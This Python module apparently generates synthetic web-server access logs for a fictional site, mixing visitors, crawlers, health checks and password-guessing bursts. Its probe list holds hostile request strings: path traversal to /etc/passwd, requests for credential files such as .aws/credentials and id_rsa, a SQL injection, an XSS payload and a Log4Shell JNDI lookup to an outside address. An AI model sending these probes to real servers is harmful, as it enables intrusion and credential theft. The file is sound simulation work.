"""What else reaches a web server: visitors, crawlers, scanners, guessed passwords, health checks."""

from __future__ import annotations

from collections.abc import Iterator

from workbench.sample.addresses import HOMES, address, somewhere
from workbench.sample.clients import browser, phone, python
from workbench.sample.dice import Dice
from workbench.sample.hours import DAY, END, HOUR, MINUTE, RELEASE, SECOND, START, moment
from workbench.sample.logs.front import Line, entry

_PROBES = (
    "GET /.env HTTP/1.1",
    "GET /.env.production HTTP/1.1",
    "GET /.git/config HTTP/1.1",
    "GET /wp-login.php HTTP/1.1",
    "GET /wp-admin/setup-config.php HTTP/1.1",
    "GET /xmlrpc.php?rsd HTTP/1.1",
    "GET /static/../../../../etc/passwd HTTP/1.1",
    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1",
    "GET /..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
    "GET /docs?page=../../../../etc/passwd%00 HTTP/1.1",
    "GET /phpmyadmin/index.php HTTP/1.1",
    "GET /actuator/env HTTP/1.1",
    "GET /server-status HTTP/1.1",
    "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "POST /boaform/admin/formLogin HTTP/1.1",
    "GET /search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
    "GET /?x=${jndi:ldap://198.51.100.23/a} HTTP/1.1",
    "GET /console/login?next=javascript:alert(1) HTTP/1.1",
    "GET /backup.zip HTTP/1.1",
    "GET /id_rsa HTTP/1.1",
    "GET /.aws/credentials HTTP/1.1",
    "GET /owa/auth/logon.aspx HTTP/1.1",
    r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "OPTIONS / RTSP/1.0",
    "",
)
_SCANNERS = (
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.27.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "curl/7.68.0",
    "-",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
)
_GUESSER = "Mozilla/5.0 (X11; Linux x86_64)"
_CRAWLERS = (
    ("66.249.66.0/24", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("157.55.39.0/24", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
)
_PUBLIC = (
    ("/", 12400),
    ("/pricing", 9100),
    ("/docs/quickstart", 21400),
    ("/docs/models", 17700),
    ("/docs/api/chat", 38200),
    ("/blog", 8800),
    ("/about", 6200),
    ("/status", 2100),
    ("/robots.txt", 130),
    ("/terms", 24800),
    ("/favicon.ico", 1150),
)
_REFERERS = (
    "-",
    "-",
    "-",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://news.example.net/item?id=4412",
)
_SCAN_NETWORKS = ("45.148.10.0/24", "193.32.162.0/24", "185.224.128.0/24", "80.94.92.0/24", "167.94.138.0/24")


def _health() -> Iterator[Line]:
    for number, at in enumerate(range(START + 12 * SECOND, END, 30 * MINUTE)):
        yield at, entry(at, f"10.0.3.{17 + number % 2}", "-", "GET /healthz HTTP/1.1", 200, 2, "-", "kube-probe/1.31")


def _scans(dice: Dice) -> Iterator[Line]:
    for _ in range(9):
        source, agent = address(dice, dice.pick(_SCAN_NETWORKS)), dice.pick(_SCANNERS)
        at = START + dice.below(END - START - HOUR)
        for probe in dice.some(_PROBES, dice.between(6, len(_PROBES))):
            status = 400 if not probe.startswith(("GET", "POST")) or "%00" in probe else dice.pick((404, 404, 404, 403))
            yield at, entry(at, source, "-", probe, status, dice.pick((150, 153, 555)), "-", agent)
            at += dice.between(90, 3000)


def _guesses(dice: Dice) -> Iterator[Line]:
    """Yield guessed passwords of the console from two addresses, and guessed API keys from one."""
    for network, day in (("193.32.162.0/24", 6), ("103.145.12.0/24", 29)):
        source = address(dice, network)
        at = START + day * DAY + dice.below(DAY // 2)
        for _ in range(dice.between(45, 80)):
            yield at, entry(at, source, "-", "POST /console/login HTTP/1.1", 401, 86, "-", _GUESSER)
            at += dice.between(400, 5000)
    source, agent = address(dice, "91.92.240.0/24"), python(dice)
    at = moment("2026-05-27T04:12")
    for _ in range(38):
        yield at, entry(at, source, "-", "POST /v1/chat/completions HTTP/1.1", 401, 143, "-", agent)
        at += dice.between(300, 1500)


def _visitors(dice: Dice, visits: int) -> Iterator[Line]:
    for number in range(visits):
        launch = number % 6 == 0
        at = RELEASE + round(dice.lognormal(3.0, 1.1) * HOUR) if launch else START + dice.below(END - START)
        if number % 9 == 1:
            network, agent = dice.pick(_CRAWLERS)
            source, referer = address(dice, network), "-"
        else:
            networks = [network for network in HOMES[somewhere(dice)[0]] if ":" not in network]
            source = address(dice, dice.pick(networks))
            agent = dice.pick((browser, phone))(dice)
            referer = dice.pick(_REFERERS)
        shown = dice.some(_PUBLIC, dice.between(1, 4))
        if launch:
            shown.insert(0, ("/blog/atlas-4", 16400))
        for path, size in shown:
            if at >= END:
                break
            status = 404 if dice.chance(0.02) else 200
            yield at, entry(at, source, "-", f"GET {path} HTTP/2.0", status, size + dice.below(90), referer, agent)
            referer = f"https://atlas.example{path}"
            at += dice.between(2, 90) * SECOND


def noise(seed: int, visits: int) -> list[Line]:
    """Return all of it in the order of time."""
    dice = Dice(seed, "noise")
    return sorted([*_health(), *_scans(dice), *_guesses(dice), *_visitors(dice, visits)])
